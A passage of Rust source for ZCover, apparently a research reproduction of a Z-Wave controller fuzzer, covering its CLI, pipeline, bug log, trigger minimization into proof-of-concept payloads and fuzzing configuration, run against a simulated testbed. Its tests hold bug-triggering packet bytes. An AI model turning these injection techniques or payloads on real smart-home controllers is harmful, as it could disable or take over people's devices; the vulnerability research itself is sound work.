            let shard_size: u64 = flag(&args, "--shard-size")
                .and_then(|s| s.parse().ok())
                .unwrap_or(DEFAULT_SHARD_SIZE);
            let budget = Duration::from_secs_f64(hours * 3600.0);
            let base = parse_config(&args, budget, seed);
            let profile = base.impairment;
            let json = json_output(&args);
            let mut config = SweepConfig::new(homes, topology, base).with_shard_size(shard_size);
            let record = flag(&args, "--record-dir")
                .map(|dir| SweepRecord { dir: dir.into(), config_name: config_name(&args) });
            if let Some(record) = record.clone() {
                config = config.with_record(record);
            }
            let executor = CampaignExecutor::new(workers);
            eprintln!(
                "sweeping {homes} {topology} homes ({}h each, sweep seed {seed}, channel \
                 {profile}) in {} shard(s) across {} worker(s) ...",
                hours,
                config.shard_count(),
                executor.workers()
            );
            let (summary, timing) = run_sweep(&executor, &config).expect("sweep failed");
            if let Some(record) = &record {
                eprintln!(
                    "per-home traces recorded to {} .. {}",
                    record.home_path(0).display(),
                    record.home_path(homes.saturating_sub(1)).display()
                );
            }
            // Throughput is real wall-clock and goes to stderr; stdout
            // stays bit-identical for any worker count.
            for (shard, secs) in summary.shards.iter().zip(&timing.per_shard_s) {
                eprintln!(
                    "shard {:>4}: {:>5} homes in {:>7.2} s ({:.1} homes/s)",
                    shard.shard,
                    shard.homes,
                    secs,
                    shard.homes as f64 / secs.max(f64::EPSILON)
                );
            }
            eprintln!(
                "aggregate: {} homes in {:.2} s ({:.1} homes/s)",
                timing.homes,
                timing.total_s,
                timing.homes_per_sec()
            );
            if json {
                println!("{}", zcover::report::sweep_to_json(&summary));
                return;
            }
            println!(
                "{} {} homes swept in {} shard(s): union of {} unique vulnerabilities {:?}",
                summary.homes,
                summary.topology,
                summary.shards.len(),
                summary.union_bug_ids().len(),
                summary.union_bug_ids()
            );
            println!("city-wide coverage: {} distinct dispatch edges", summary.coverage_edges);
            let c = &summary.counters;
            println!(
                "counters: {} packets, {} plans, {} outages, {} findings",
                c.packets_sent, c.plans_executed, c.outages_observed, c.findings
            );
            let ch = &summary.channel;
            println!(
                "channel:  {} frames, {} deliveries, {} losses, {} dups, {} reorders",
                ch.frames_sent, ch.deliveries, ch.losses, ch.duplicates, ch.reorders
            );
            println!("per-bug hit counts (bug id: homes that found it):");
            for (bug, hit_homes) in &summary.hit_counts {
                println!(
                    "  {bug:02}: {hit_homes}/{} ({:.1} %)",
                    summary.homes,
                    summary.hit_rate(*bug) * 100.0
                );
            }
        }
        "replay" => {
            let path = args
                .get(1)
                .filter(|a| !a.starts_with("--"))
                .cloned()
                .or_else(|| flag(&args, "--trace"))
                .unwrap_or_else(|| {
                    eprintln!("usage: zcover replay <trace.jsonl|trace.zct>");
                    std::process::exit(2);
                });
            let (bytes, trace) = load_trace(&path);
            eprintln!(
                "replaying {path}: {}, {} recorded events ...",
                trace.meta.describe(),
                trace.events.len()
            );
            let report = zcover::replay(&trace).unwrap_or_else(|e| {
                eprintln!("{path}: {e}");
                eprintln!("{path}: header: {}", trace.meta.describe());
                std::process::exit(2);
            });
            println!("{}", report.render());
            if let Some(d) = &report.divergence {
                // The index alone is enough for a JSONL trace; for a
                // binary one the block/byte locus says where to seek.
                eprintln!(
                    "recorded event {} lives at {} of {path}",
                    d.index,
                    zcover::event_locus(&bytes, d.index)
                );
                std::process::exit(1);
            }
        }
        "trace" => {
            let usage = || -> ! {
                eprintln!(
                    "usage: zcover trace export <in.jsonl|in.zct> [--out FILE]\n\
                     \x20      zcover trace stats  <trace>... [--format text|json]"
                );
                std::process::exit(2);
            };
            match args.get(1).map(String::as_str) {
                Some("export") => {
                    let path =
                        args.get(2).filter(|a| !a.starts_with("--")).unwrap_or_else(|| usage());
                    let (_, trace) = load_trace(path);
                    match flag(&args, "--out") {
                        // The output extension picks the format, so this
                        // converts in both directions (jsonl ↔ zct).
                        Some(out) => {
                            trace.save(Path::new(&out)).unwrap_or_else(|e| {
                                eprintln!("{out}: {e}");
                                std::process::exit(2);
                            });
                            eprintln!("{path} ({} events) exported to {out}", trace.events.len());
                        }
                        None => print!("{}", trace.to_jsonl()),
                    }
                }
                Some("stats") => {
                    let json = json_output(&args);
                    let paths: Vec<&String> =
                        args[2..].iter().take_while(|a| !a.starts_with("--")).collect();
                    if paths.is_empty() {
                        usage();
                    }
                    let mut traces = Vec::with_capacity(paths.len());
                    let mut reports = Vec::with_capacity(paths.len());
                    for path in &paths {
                        let (_, trace) = load_trace(path);
                        let stats = TraceStats::scan(&trace.events);
                        reports.push(if json {
                            zcover::report::trace_stats_to_json(&stats, path)
                        } else {
                            stats.render(path)
                        });
                        traces.push((path.to_string(), trace));
                    }
                    if json {
                        println!("[{}]", reports.join(","));
                    } else {
                        for report in &reports {
                            print!("{report}");
                        }
                        if traces.len() > 1 {
                            print!("{}", zcover::cross_trial_summary(&traces));
                        }
                    }
                }
                _ => usage(),
            }
        }
        "export-spec" => {
            let xml = zwave_protocol::registry::xml::to_xml(zwave_protocol::Registry::global());
            match flag(&args, "--out") {
                Some(path) => {
                    std::fs::write(&path, &xml).expect("writing the XML file");
                    eprintln!(
                        "{} classes exported to {path}",
                        zwave_protocol::Registry::global().len()
                    );
                }
                None => println!("{xml}"),
            }
        }
        _ => {
            eprintln!(
                "usage: zcover <fingerprint|discover|fuzz|trials|sweep|replay|trace|export-spec> \
                 [--device D1..D7] [--seed N] [--hours H] [--trials N] [--workers N] \
                 [--homes N] [--topology star|line|mesh] [--shard-size N] \
                 [--mode zcover|vfuzz|coverage] \
                 [--config full|beta|gamma|no-priority|no-plans] \
                 [--impairment clean|lossy|bursty|adversarial] \
                 [--scenario none|s0-no-more|crushing-the-wave] \
                 [--format text|json] [--record FILE] [--record-dir DIR] \
                 [--log FILE] [--report FILE] [--out FILE]\n\
                 trace files may be .jsonl or .zct (compact binary); \
                 `zcover trace export|stats` converts and analyses them"
            );
            std::process::exit(if command == "help" { 0 } else { 2 });
        }
    }
}

//! # ZCover — Z-Wave COntroller Vulnerability discovERy
//!
//! A reproduction of the DSN 2025 paper *"ZCover: Uncovering Z-Wave
//! Controller Vulnerabilities Through Systematic Security Analysis of
//! Application Layer Implementation"* (Nkuba et al.).
//!
//! ZCover analyses a Z-Wave controller as a black box reachable only over
//! the radio, in three phases:
//!
//! 1. **Known properties fingerprinting** ([`passive`], [`active`]): sniff
//!    normal traffic to recover the home id and node ids, then query the
//!    controller's NIF for its listed command classes.
//! 2. **Unknown properties discovery** ([`discovery`]): cluster the public
//!    specification for controller-relevant classes the NIF omitted, and
//!    sweep the CMDCL space on air to confirm proprietary classes the
//!    specification itself omits.
//! 3. **Position-sensitive mutation fuzzing** ([`mutation`], [`fuzzer`]):
//!    Algorithm 1 — a priority queue over the 45 discovered classes,
//!    semi-valid packet generation respecting the CMDCL → CMD → PARAM
//!    hierarchy, spec-informed mutation operators, boundary testing,
//!    NOP-ping liveness monitoring, and a deduplicating bug log.
//!
//! # Quickstart
//!
//! ```
//! use std::time::Duration;
//! use zcover::{FuzzConfig, ZCover};
//! use zwave_controller::testbed::{DeviceModel, Testbed};
//!
//! let mut testbed = Testbed::new(DeviceModel::D1, 42);
//! let mut zcover = ZCover::attach(&testbed, 70.0);
//! let report = zcover
//!     .run_campaign(&mut testbed, FuzzConfig::full(Duration::from_secs(1800), 42))
//!     .expect("fingerprinting succeeds on a live network");
//! assert!(report.campaign.unique_vulns() > 0);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod active;
pub mod buglog;
pub mod corpus;
pub mod discovery;
pub mod dongle;
pub mod executor;
pub mod fuzzer;
pub mod minimize;
pub mod mutation;
pub mod passive;
pub mod report;
pub mod scenarios;
pub mod sweep;
pub mod target;
pub mod trace;
pub mod trials;

pub use active::{ActiveScanReport, ActiveScanner};
pub use buglog::{BugLog, VulnFinding};
pub use corpus::{Corpus, CorpusEntry, PowerSchedule};
pub use discovery::{DiscoveryReport, UnknownDiscovery};
pub use dongle::{Dongle, PingOutcome};
pub use executor::{derive_trial_seed, CampaignExecutor, TraceSpec};
pub use fuzzer::{
    CampaignCounters, CampaignResult, FuzzConfig, FuzzMode, Fuzzer, NullSink, TraceEvent, TraceSink,
};
pub use minimize::minimize;
pub use mutation::{MutationOp, Mutator};
pub use passive::{PassiveScanner, ScanReport, TrafficStats};
pub use scenarios::{Scenario, ScenarioDriver, ATTACKER_KEY, GHOST_NODE};
pub use sweep::{
    run_sweep, ShardSummary, SweepConfig, SweepRecord, SweepSummary, SweepTiming,
    DEFAULT_SHARD_SIZE,
};
pub use target::FuzzTarget;
pub use trace::{
    cross_trial_summary, describe_header, diff_traces, event_locus, record_campaign, replay,
    Record, RecordedCampaign, ReplayReport, SchedKind, Trace, TraceError, TraceMeta, TraceRecorder,
    TraceStats,
};
pub use trials::{run_trials, TrialSummary};
pub use zwave_radio::{ImpairmentProfile, ImpairmentSchedule, ImpairmentStage};

/// Errors from the end-to-end ZCover pipeline.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum ZCoverError {
    /// Passive scanning observed no Z-Wave traffic.
    NoTraffic,
    /// The controller never answered the NIF request.
    NoNifResponse,
    /// A trace file could not be written while recording a trial.
    TraceIo(String),
}

impl std::fmt::Display for ZCoverError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ZCoverError::NoTraffic => f.write_str("passive scanning observed no z-wave traffic"),
            ZCoverError::NoNifResponse => f.write_str("controller did not answer the NIF request"),
            ZCoverError::TraceIo(e) => write!(f, "trace recording failed: {e}"),
        }
    }
}

impl std::error::Error for ZCoverError {}

/// The combined output of all three ZCover phases.
#[derive(Debug, Clone)]
pub struct ZCoverReport {
    /// Phase 1a: network fingerprint.
    pub scan: ScanReport,
    /// Phase 1b: listed command classes.
    pub active: ActiveScanReport,
    /// Phase 2: unknown-property discovery.
    pub discovery: DiscoveryReport,
    /// Phase 3: fuzzing campaign result.
    pub campaign: CampaignResult,
}

/// The end-to-end ZCover pipeline bound to one attacker dongle.
#[derive(Debug)]
pub struct ZCover {
    passive: PassiveScanner,
    dongle: Dongle,
}

impl ZCover {
    /// Attaches ZCover's transceiver to the target's medium at
    /// `position_m` metres (10-70 m in the paper's threat model).
    pub fn attach<T: FuzzTarget>(target: &T, position_m: f64) -> Self {
        ZCover {
            passive: PassiveScanner::new(target.medium(), position_m),
            dongle: Dongle::attach(target.medium(), position_m),
        }
    }

    /// Phase 1a only: fingerprint the network from sniffed traffic.
    ///
    /// # Errors
    ///
    /// [`ZCoverError::NoTraffic`] when nothing was captured.
    pub fn fingerprint<T: FuzzTarget>(
        &mut self,
        target: &mut T,
    ) -> Result<ScanReport, ZCoverError> {
        // Listen through a few rounds of benign traffic.
        for _ in 0..3 {
            target.generate_normal_traffic();
        }
        self.passive.analyze().ok_or(ZCoverError::NoTraffic)
    }

    /// Runs all three phases and a fuzzing campaign.
    ///
    /// # Errors
    ///
    /// [`ZCoverError::NoTraffic`] when passive scanning captured nothing;
    /// [`ZCoverError::NoNifResponse`] when active scanning got no NIF.
    pub fn run_campaign<T: FuzzTarget>(
        &mut self,
        target: &mut T,
        config: FuzzConfig,
    ) -> Result<ZCoverReport, ZCoverError> {
        self.run_campaign_with_sink(target, config, &mut NullSink)
    }

    /// [`ZCover::run_campaign`] with a [`TraceSink`] observing the fuzzing
    /// phase as it executes (the sink cannot perturb the campaign).
    ///
    /// # Errors
    ///
    /// Same as [`ZCover::run_campaign`].
    pub fn run_campaign_with_sink<T: FuzzTarget>(
        &mut self,
        target: &mut T,
        config: FuzzConfig,
        sink: &mut dyn TraceSink,
    ) -> Result<ZCoverReport, ZCoverError> {
        // The named impairment profile shapes the channel for every phase:
        // fingerprinting, discovery and the fuzzing campaign all face the
        // same (deterministically) hostile medium.
        target.medium().set_impairment(config.impairment.schedule());
        // Scenario preconditions (an offline node record, an armed
        // re-inclusion window) exist before the attacker ever listens.
        target.prepare_scenario(config.scenario);
        let scan = self.fingerprint(target)?;
        let active = ActiveScanner::scan(target, &mut self.dongle, &scan)
            .ok_or(ZCoverError::NoNifResponse)?;
        let discovery =
            UnknownDiscovery::run(target, &mut self.dongle, &scan, active.listed.clone());
        // Reconnaissance probes go direct; once the target's mesh shape is
        // known, the campaign's crafted frames ride the repeater chain the
        // topology demands (a no-op on flat, direct-range testbeds).
        self.dongle.set_route(target.injection_route());
        let fuzzer = Fuzzer::new(config);
        let campaign = fuzzer.run_with_sink(target, &mut self.dongle, &scan, &discovery, sink);
        Ok(ZCoverReport { scan, active, discovery, campaign })
    }

    /// The attacker dongle (for custom injection experiments).
    pub fn dongle_mut(&mut self) -> &mut Dongle {
        &mut self.dongle
    }
}

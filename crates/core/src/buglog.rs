//! The bug log: unique vulnerability findings with their triggering
//! packets, serialisable to the plain-text log file of Figure 3.

use std::collections::BTreeSet;
use std::time::Duration;

use zwave_controller::{EffectKind, FaultRecord, RootCause};
use zwave_radio::SimInstant;

/// One verified unique vulnerability finding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VulnFinding {
    /// Table III bug id (1-15; 100+ for MAC quirks).
    pub bug_id: u8,
    /// CMDCL of the minimized trigger.
    pub cmdcl: u8,
    /// CMD of the minimized trigger.
    pub cmd: u8,
    /// Observable effect class.
    pub effect: EffectKind,
    /// Root cause per Table III.
    pub root_cause: RootCause,
    /// Outage duration; `None` renders as "Infinite".
    pub outage: Option<Duration>,
    /// Virtual time of first discovery.
    pub found_at: SimInstant,
    /// Packets injected before first discovery.
    pub found_after_packets: u64,
    /// The bug-inducing application payload.
    pub trigger: Vec<u8>,
}

impl VulnFinding {
    /// Renders the Duration column of Table III.
    pub fn duration_label(&self) -> String {
        match self.outage {
            None => "Infinite".to_string(),
            Some(d) if d.as_secs() >= 60 && d.as_secs() % 60 == 0 => {
                format!("{} min", d.as_secs() / 60)
            }
            Some(d) => format!("{} sec", d.as_secs()),
        }
    }
}

/// A deduplicating log of unique findings.
#[derive(Debug, Clone, Default)]
pub struct BugLog {
    findings: Vec<VulnFinding>,
    seen: BTreeSet<u8>,
}

impl BugLog {
    /// An empty log.
    pub fn new() -> Self {
        BugLog::default()
    }

    /// Records a fault if its bug id is new; returns `true` when the
    /// finding is unique.
    pub fn record(&mut self, fault: &FaultRecord, packets: u64) -> bool {
        if !self.seen.insert(fault.bug_id) {
            return false;
        }
        self.findings.push(VulnFinding {
            bug_id: fault.bug_id,
            cmdcl: fault.cmdcl,
            cmd: fault.cmd,
            effect: fault.effect,
            root_cause: fault.root_cause,
            outage: fault.outage,
            found_at: fault.at,
            found_after_packets: packets,
            trigger: fault.trigger.clone(),
        });
        true
    }

    /// Absorbs an already-verified finding from another log (e.g. a
    /// parallel trial's); returns `true` when its bug id is new here. The
    /// first-absorbed occurrence is kept, so merging trial logs in trial
    /// order is deterministic.
    pub fn absorb(&mut self, finding: &VulnFinding) -> bool {
        if !self.seen.insert(finding.bug_id) {
            return false;
        }
        self.findings.push(finding.clone());
        true
    }

    /// All unique findings, in discovery order.
    pub fn findings(&self) -> &[VulnFinding] {
        &self.findings
    }

    /// Number of unique findings.
    pub fn unique_count(&self) -> usize {
        self.findings.len()
    }

    /// Whether a bug id was already found.
    pub fn contains(&self, bug_id: u8) -> bool {
        self.seen.contains(&bug_id)
    }

    /// Renders the log file of Figure 3: one line per finding.
    pub fn to_text(&self) -> String {
        let mut out = String::from(
            "# bug_id | cmdcl | cmd | duration | root_cause | t_found_s | packets | trigger\n",
        );
        for f in &self.findings {
            let trigger: Vec<String> = f.trigger.iter().map(|b| format!("{b:02X}")).collect();
            out.push_str(&format!(
                "{:02} | 0x{:02X} | 0x{:02X} | {} | {} | {:.1} | {} | {}\n",
                f.bug_id,
                f.cmdcl,
                f.cmd,
                f.duration_label(),
                f.root_cause,
                f.found_at.as_secs_f64(),
                f.found_after_packets,
                trigger.join(" ")
            ));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fault(bug_id: u8) -> FaultRecord {
        FaultRecord {
            at: SimInstant::ZERO.plus(Duration::from_secs(12)),
            bug_id,
            cmdcl: 0x01,
            cmd: 0x0D,
            effect: EffectKind::RogueNodeInserted,
            root_cause: RootCause::Specification,
            outage: None,
            trigger: vec![0x01, 0x0D, 0x0A],
        }
    }

    #[test]
    fn record_dedupes_by_bug_id() {
        let mut log = BugLog::new();
        assert!(log.record(&fault(2), 10));
        assert!(!log.record(&fault(2), 20));
        assert!(log.record(&fault(3), 30));
        assert_eq!(log.unique_count(), 2);
        assert!(log.contains(2));
        assert!(!log.contains(9));
        // The first occurrence is kept.
        assert_eq!(log.findings()[0].found_after_packets, 10);
    }

    #[test]
    fn duration_labels_match_table3_style() {
        let mut f = fault(7);
        f.outage = Some(Duration::from_secs(68));
        let mut log = BugLog::new();
        log.record(&f, 1);
        assert_eq!(log.findings()[0].duration_label(), "68 sec");

        let mut f = fault(14);
        f.bug_id = 14;
        f.outage = Some(Duration::from_secs(240));
        log.record(&f, 2);
        assert_eq!(log.findings()[1].duration_label(), "4 min");

        assert_eq!(
            VulnFinding {
                bug_id: 1,
                cmdcl: 1,
                cmd: 13,
                effect: EffectKind::NodePropertiesTampered,
                root_cause: RootCause::Specification,
                outage: None,
                found_at: SimInstant::ZERO,
                found_after_packets: 0,
                trigger: vec![],
            }
            .duration_label(),
            "Infinite"
        );
    }

    #[test]
    fn text_rendering_contains_all_columns() {
        let mut log = BugLog::new();
        log.record(&fault(2), 42);
        let text = log.to_text();
        assert!(text.contains("02 | 0x01 | 0x0D | Infinite | Specification"));
        assert!(text.contains("01 0D 0A"));
        assert!(text.contains("| 42 |"));
    }
}

//! Trigger minimization: shrinks a bug-inducing payload to a minimal
//! proof-of-concept, the step between "crash logged" and "PoC exploit
//! developed" in the paper's workflow (Section IV-A: "After validation, we
//! develop proof-of-concept (PoC) exploits for selected critical
//! vulnerabilities").

use zwave_protocol::apl::ApplicationPayload;

/// Greedily minimizes `trigger` (an encoded application payload) while
/// `reproduces` keeps returning `true`. The CMDCL and CMD bytes are never
/// removed; parameters are first truncated from the end, then each
/// remaining parameter is driven towards zero.
///
/// `reproduces` is called with candidate payloads; it should replay the
/// candidate against a *fresh* target and report whether the same bug
/// fires. The returned payload is guaranteed to reproduce.
///
/// # Panics
///
/// Panics if the original `trigger` itself does not reproduce (a
/// minimization precondition failure, always a caller bug).
pub fn minimize<F>(trigger: &[u8], mut reproduces: F) -> Vec<u8>
where
    F: FnMut(&[u8]) -> bool,
{
    assert!(reproduces(trigger), "minimization precondition: the original trigger must reproduce");
    let Ok(payload) = ApplicationPayload::parse(trigger) else {
        return trigger.to_vec();
    };
    if payload.command().is_none() {
        return trigger.to_vec();
    }
    let mut best = payload;

    // Phase 1: truncate parameters from the end.
    loop {
        let mut candidate = best.clone();
        if candidate.params().is_empty() {
            break;
        }
        candidate.params_mut().pop();
        if reproduces(&candidate.encode()) {
            best = candidate;
        } else {
            break;
        }
    }

    // Phase 2: canonicalise each remaining parameter towards zero.
    for i in 0..best.params().len() {
        if best.params()[i] == 0 {
            continue;
        }
        let mut candidate = best.clone();
        candidate.params_mut()[i] = 0;
        if reproduces(&candidate.encode()) {
            best = candidate;
        }
    }

    best.encode()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A synthetic oracle: fires when params[0] == 0x02, anything after is
    /// noise.
    fn oracle(payload: &[u8]) -> bool {
        payload.len() >= 3 && payload[0] == 0x01 && payload[1] == 0x0D && payload[2] == 0x02
    }

    #[test]
    fn strips_trailing_noise() {
        let noisy = vec![0x01, 0x0D, 0x02, 0xAA, 0xBB, 0xCC];
        let minimal = minimize(&noisy, oracle);
        assert_eq!(minimal, vec![0x01, 0x0D, 0x02]);
    }

    #[test]
    fn keeps_required_parameters() {
        let trigger = vec![0x01, 0x0D, 0x02];
        assert_eq!(minimize(&trigger, oracle), trigger);
    }

    #[test]
    fn zeroes_irrelevant_middle_parameters() {
        // Oracle requires params[0] == 0x02 and at least 2 params.
        let oracle = |p: &[u8]| p.len() >= 4 && p[2] == 0x02;
        let minimal = minimize(&[0x01, 0x0D, 0x02, 0x7F], oracle);
        assert_eq!(minimal, vec![0x01, 0x0D, 0x02, 0x00]);
    }

    #[test]
    #[should_panic(expected = "precondition")]
    fn panics_when_original_does_not_reproduce() {
        minimize(&[0x20, 0x01, 0xFF], |_| false);
    }

    #[test]
    fn bare_payloads_pass_through() {
        let bare = vec![0x00];
        assert_eq!(minimize(&bare, |_| true), bare);
    }

    #[test]
    fn minimized_trigger_fires_the_same_bug_id_and_never_grows() {
        use zwave_controller::testbed::{DeviceModel, Testbed};
        use zwave_protocol::{MacFrame, NodeId};

        // Replays a candidate against a fresh testbed and reports whether
        // the given bug id fires — the oracle the paper's PoC step uses.
        let fires = |candidate: &[u8], bug_id: u8| {
            let mut tb = Testbed::new(DeviceModel::D1, 11);
            let attacker = tb.attach_attacker(70.0);
            let frame = MacFrame::singlecast(
                tb.controller().home_id(),
                NodeId(0x03),
                NodeId(0x01),
                candidate.to_vec(),
            );
            attacker.transmit(&frame.encode());
            tb.pump();
            tb.controller().fault_log().records().iter().any(|r| r.bug_id == bug_id)
        };
        // Bug #10's sloppy Version-command trigger with a junk tail.
        let noisy = vec![0x86, 0x25, 0xDE, 0xAD, 0xBE, 0xEF];
        assert!(fires(&noisy, 10), "the noisy original must reproduce bug 10");
        let minimal = minimize(&noisy, |c| fires(c, 10));
        assert!(minimal.len() <= noisy.len(), "minimization must never grow the trigger");
        assert!(fires(&minimal, 10), "the minimized trigger fires the same bug id");
        assert!(minimal.len() < noisy.len(), "the junk tail is removable noise");
    }

    #[test]
    fn minimizes_against_a_real_testbed() {
        use zwave_controller::testbed::{DeviceModel, Testbed};
        use zwave_protocol::{MacFrame, NodeId};

        // A noisy bug-#04 trigger: broadcast marker plus junk.
        let noisy = vec![0x01, 0x0D, 0xFF, 0x13, 0x37];
        let minimal = minimize(&noisy, |candidate| {
            let mut tb = Testbed::new(DeviceModel::D1, 9);
            let attacker = tb.attach_attacker(70.0);
            let frame = MacFrame::singlecast(
                tb.controller().home_id(),
                NodeId(0x03),
                NodeId(0x01),
                candidate.to_vec(),
            );
            attacker.transmit(&frame.encode());
            tb.pump();
            tb.controller().fault_log().records().iter().any(|r| r.bug_id == 4)
        });
        assert_eq!(minimal, vec![0x01, 0x0D, 0xFF]);
    }
}

//! The position-sensitive-mutation fuzzing campaign: Algorithm 1 plus the
//! feedback loop of Figure 7 (properties acquisition → test-case generation
//! → execution & response monitoring).

use std::collections::BTreeSet;
use std::time::Duration;

use zwave_protocol::apl::ApplicationPayload;
use zwave_protocol::registry::Registry;
use zwave_protocol::CommandClassId;
use zwave_radio::{ImpairmentProfile, MediumStats, SchedStats, SimInstant};

use crate::buglog::{BugLog, VulnFinding};
use crate::corpus::{Corpus, CorpusEntry, PowerSchedule};
use crate::discovery::DiscoveryReport;
use crate::dongle::{Dongle, PingOutcome};
use crate::mutation::Mutator;
use crate::passive::ScanReport;
use crate::scenarios::{Scenario, ScenarioDriver};
use crate::target::FuzzTarget;

/// Which fuzzing engine drives the campaign — the axis of the three-way
/// comparison (`zcover trials --mode`, `bench_coverage`).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum FuzzMode {
    /// The paper's positional fuzzer (Algorithm 1), possibly ablated by
    /// the other [`FuzzConfig`] toggles.
    #[default]
    Zcover,
    /// Blind uniform-random APL payloads — the in-suite stand-in for the
    /// VFuzz baseline, fenced behind the same injection/oracle machinery
    /// so discovery times are comparable.
    Vfuzz,
    /// Coverage-guided: deterministic plan bootstrap, then mutation of a
    /// corpus of edge-discovering inputs under a power schedule.
    Coverage,
}

impl FuzzMode {
    /// Canonical CLI/JSON name.
    pub fn name(self) -> &'static str {
        match self {
            FuzzMode::Zcover => "zcover",
            FuzzMode::Vfuzz => "vfuzz",
            FuzzMode::Coverage => "coverage",
        }
    }

    /// Parses a canonical name; `None` for an unknown one.
    pub fn parse(name: &str) -> Option<FuzzMode> {
        Some(match name {
            "zcover" => FuzzMode::Zcover,
            "vfuzz" => FuzzMode::Vfuzz,
            "coverage" => FuzzMode::Coverage,
            _ => return None,
        })
    }
}

impl std::fmt::Display for FuzzMode {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Fuzzing configuration, including the ablation toggles of Table VI.
#[derive(Debug, Clone)]
pub struct FuzzConfig {
    /// Total campaign budget (`Testing_T`, "0.1 to 24 hours").
    pub testing_duration: Duration,
    /// Per-CMDCL packet budget (the `C_T` window of Algorithm 1, expressed
    /// in packets so that outage-recovery waits do not eat the window).
    pub per_cmdcl_packets: u32,
    /// Random mutation packets appended after the deterministic plans of
    /// each CMDCL window.
    pub extra_random_packets: u32,
    /// Fuzz unlisted/proprietary classes too (disabled in ZCover β).
    pub use_unknown_cmdcls: bool,
    /// Position-sensitive mutation (disabled in ZCover γ, which draws
    /// CMDCL, CMD and PARAMs uniformly at random).
    pub position_sensitive: bool,
    /// Order the queue by command count (Section III-C1's prioritisation);
    /// disabled in the extended ablation, which scans ascending by id.
    pub prioritize: bool,
    /// Use the deterministic semantic/boundary exploration plans before
    /// random mutation; disabled in the extended ablation.
    pub semantic_plans: bool,
    /// RNG seed for the trial.
    pub seed: u64,
    /// Named channel-impairment profile applied to the simulated medium
    /// for the whole campaign (Section IV's noisy-environment runs).
    pub impairment: ImpairmentProfile,
    /// Which engine drives the campaign (zcover / vfuzz / coverage).
    pub mode: FuzzMode,
    /// Scripted adversary sharing the medium with the campaign
    /// ([`Scenario::None`] for plain fuzzing).
    pub scenario: Scenario,
}

impl FuzzConfig {
    /// The full ZCover configuration (Table VI test 1).
    pub fn full(testing_duration: Duration, seed: u64) -> Self {
        FuzzConfig {
            testing_duration,
            per_cmdcl_packets: 400,
            extra_random_packets: 20,
            use_unknown_cmdcls: true,
            position_sensitive: true,
            prioritize: true,
            semantic_plans: true,
            seed,
            impairment: ImpairmentProfile::Clean,
            mode: FuzzMode::Zcover,
            scenario: Scenario::None,
        }
    }

    /// Returns the same configuration with `profile` applied to the
    /// simulated channel.
    pub fn with_impairment(self, profile: ImpairmentProfile) -> Self {
        FuzzConfig { impairment: profile, ..self }
    }

    /// Returns the same configuration with a scripted adversary running
    /// `scenario` alongside the campaign.
    pub fn with_scenario(self, scenario: Scenario) -> Self {
        FuzzConfig { scenario, ..self }
    }

    /// Extended ablation: no command-count prioritisation (queue scanned
    /// ascending by CMDCL id).
    pub fn without_prioritization(testing_duration: Duration, seed: u64) -> Self {
        FuzzConfig { prioritize: false, ..FuzzConfig::full(testing_duration, seed) }
    }

    /// Extended ablation: no semantic/boundary exploration plans (random
    /// position-sensitive mutation only).
    pub fn without_semantic_plans(testing_duration: Duration, seed: u64) -> Self {
        FuzzConfig { semantic_plans: false, ..FuzzConfig::full(testing_duration, seed) }
    }

    /// ZCover β: known (listed) CMDCLs only (Table VI test 2).
    pub fn beta(testing_duration: Duration, seed: u64) -> Self {
        FuzzConfig { use_unknown_cmdcls: false, ..FuzzConfig::full(testing_duration, seed) }
    }

    /// ZCover γ: random CMDCLs, no position-sensitive mutation (Table VI
    /// test 3).
    pub fn gamma(testing_duration: Duration, seed: u64) -> Self {
        FuzzConfig { position_sensitive: false, ..FuzzConfig::full(testing_duration, seed) }
    }

    /// The coverage-guided mode: plan bootstrap plus corpus-biased
    /// mutation under a power schedule (ROADMAP item 2).
    pub fn coverage(testing_duration: Duration, seed: u64) -> Self {
        FuzzConfig { mode: FuzzMode::Coverage, ..FuzzConfig::full(testing_duration, seed) }
    }

    /// The in-suite VFuzz baseline: blind uniform-random APL payloads.
    pub fn vfuzz(testing_duration: Duration, seed: u64) -> Self {
        FuzzConfig { mode: FuzzMode::Vfuzz, ..FuzzConfig::full(testing_duration, seed) }
    }

    /// Builds a configuration from its canonical name (the `--config`
    /// vocabulary of the `zcover` CLI and the `config` field of recorded
    /// traces): `full`, `beta`, `gamma`, `no-priority`, `no-plans`,
    /// `coverage`, or `vfuzz`. Returns `None` for an unknown name.
    pub fn named(name: &str, testing_duration: Duration, seed: u64) -> Option<Self> {
        Some(match name {
            "full" => FuzzConfig::full(testing_duration, seed),
            "beta" => FuzzConfig::beta(testing_duration, seed),
            "gamma" => FuzzConfig::gamma(testing_duration, seed),
            "no-priority" => FuzzConfig::without_prioritization(testing_duration, seed),
            "no-plans" => FuzzConfig::without_semantic_plans(testing_duration, seed),
            "coverage" => FuzzConfig::coverage(testing_duration, seed),
            "vfuzz" => FuzzConfig::vfuzz(testing_duration, seed),
            _ => return None,
        })
    }
}

/// Structured observer of campaign progress, called synchronously from the
/// fuzzing loop. Implementations must not perturb the campaign (they see
/// events; they cannot influence scheduling), so the same seed produces
/// the same campaign regardless of which sink is attached.
pub trait TraceSink {
    /// One fuzz packet was injected (liveness pings excluded).
    fn packet_sent(&mut self) {}
    /// One deterministic exploration plan was executed.
    fn plan_executed(&mut self) {}
    /// A packet caused a timed outage (hang) of the controller.
    fn outage_observed(&mut self) {}
    /// A new unique vulnerability entered the bug log.
    fn finding(&mut self, _finding: &VulnFinding) {}
    /// A fuzz packet went unacknowledged and was retransmitted.
    fn retransmission(&mut self) {}
    /// A fuzz packet exhausted its retransmission budget without an ack.
    fn ack_timeout(&mut self) {}
    /// A payload discovered new coverage edges and entered the corpus
    /// (coverage mode only).
    fn corpus_retained(&mut self, _new_edges: u64, _corpus_size: usize) {}
    /// The scripted adversary transmitted attack frame `index` of its
    /// scenario schedule.
    fn attack_frame(&mut self, _index: u64) {}
}

/// A sink that discards every event.
#[derive(Debug, Clone, Copy, Default)]
pub struct NullSink;

impl TraceSink for NullSink {}

/// Per-campaign event counters, also usable as a self-counting
/// [`TraceSink`]. The executor sums these across trials for the merged
